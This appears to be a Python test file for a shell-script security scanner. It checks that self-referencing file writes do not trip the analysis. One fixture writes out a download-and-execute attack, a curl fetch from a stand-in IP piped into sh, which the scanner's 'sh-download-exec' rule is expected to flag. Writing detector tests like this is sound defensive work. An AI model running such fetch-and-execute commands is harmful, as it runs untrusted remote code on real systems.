"""A script line that writes a file whose writing command also reads it (`prep "$4" && cat src >"$4"`) is analysed,
not reported as a file that defeated its analysis (git's own git-merge-one-file.sh was a false analysis-exhausted)."""
from __future__ import annotations

from codescan.analyze.document import Analyzer
from codescan.config import Config
from codescan.records import Document
from codescan.rules import load_rules


def _found(text: str) -> tuple[list, list]:
    analysis = Analyzer(load_rules(), Config()).analyze(Document(path="merge.sh", content=text.encode()))
    return sorted((f.line, f.rule_id) for f in analysis.findings), [s.reason for s in analysis.skips]


def test_a_write_whose_command_reads_the_same_file_does_not_recurse():
    found, skips = _found('orig=$(git unpack-file $1)\n'
                          'git checkout-index -f -- "$4" && cat "$src1" >"$4" || exit 1\n'
                          'exec git update-index -- "$4"\nsh "$4"\n')
    assert found == [] and skips == []


def test_a_download_in_such_a_cycle_is_still_what_runs():
    found, _skips = _found('#!/bin/sh\ncurl -fsSL -o "$T" http://203.0.113.7/p\n'
                           'prep "$T" && cat "$T" >"$T" || exit 1\nsh "$T"\n')
    assert (4, "sh-download-exec") in found
